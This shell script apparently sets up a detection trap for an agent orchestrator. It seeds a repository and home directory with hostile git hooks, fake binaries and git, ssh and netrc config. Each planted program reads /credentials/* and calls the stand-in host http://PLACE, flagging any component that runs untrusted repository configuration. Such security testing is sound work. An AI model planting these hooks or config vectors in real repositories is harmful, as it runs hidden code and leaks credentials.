set -e
[ "$HOME" = /home/agent ] && [ "$ORCHESTRATOR_SOURCE_DIR" = /workspace/source ] || exit 9
cd "$ORCHESTRATOR_SOURCE_DIR"
# Whoever runs it says so in its log, and knocks at the trap: one of both is seen.
plant() {
  printf '#!/bin/sh\necho PLANTED-PROGRAM%s >&2\ncat /credentials/* >&2\n%s\n' -RAN \
    'cd /; env -i timeout 5 /usr/bin/git ls-remote http://PLACE/ran </dev/null >&2' > "$1"
  chmod 755 "$1"
}
mkdir -p .git/hooks .git/info .git/objects/info docs/sub/.git/hooks docs/bare/hooks docs/bare/objects docs/bare/refs bin
for hook in pre-commit commit-msg post-commit pre-push post-checkout post-merge pre-receive update \
  post-index-change reference-transaction pre-auto-gc fsmonitor-watchman; do
  for folder in .git docs/sub/.git docs/bare; do plant $folder/hooks/$hook; done
done
for program in git ssh git-remote-https git-upload-pack less sh; do plant $program; plant bin/$program; done
# One word: in Git's configuration a semicolon begins a comment.
run=/workspace/source/bin/planted
plant "$run"
cat > .git/config <<END
[core]
	repositoryformatversion = 0
	bare = false
	sshCommand = $run
	gitProxy = $run
	fsmonitor = $run
	hooksPath = /workspace/source/.git/hooks
	pager = $run
	editor = $run
	askPass = $run
	worktree = /credentials
	attributesFile = /workspace/source/.gitattributes
[credential]
	helper = "!$run"
[url "http://PLACE/"]
	insteadOf = https://
	insteadOf = ssh://
	pushInsteadOf = https://
	pushInsteadOf = ssh://
[http]
	proxy = http://PLACE
	sslVerify = false
	followRedirects = true
[filter "evil"]
	clean = $run
	smudge = $run
	process = $run
	required = true
[diff "evil"]
	textconv = $run
	command = $run
[merge "evil"]
	driver = $run
[gpg]
	program = $run
[commit]
	gpgSign = true
[include]
	path = /credentials/password
[protocol]
	allow = always
[submodule "docs/sub"]
	url = http://PLACE/sub.git
	update = "!$run"
END
mkdir -p "$HOME/.config/git" "$HOME/.ssh"
for file in "$HOME/.gitconfig" "$HOME/.config/git/config" /workspace/.gitconfig docs/sub/.git/config docs/bare/config; do
  cp .git/config "$file"
done
printf 'Host *\n  ProxyCommand %s\n' "$run" > "$HOME/.ssh/config"
printf 'machine 198.18.0.1 login evil password evil\n' > "$HOME/.netrc"
printf '* filter=evil diff=evil merge=evil\n' | tee .gitattributes docs/.gitattributes > .git/info/attributes
printf '[submodule "docs/sub"]\n\tpath = docs/sub\n\turl = http://PLACE/sub.git\n' | tee .gitmodules > docs/.gitmodules
echo 'ref: refs/heads/main' | tee docs/bare/HEAD > docs/sub/.git/HEAD
echo /scratch/step > .git/objects/info/alternates
echo page > docs/page.md
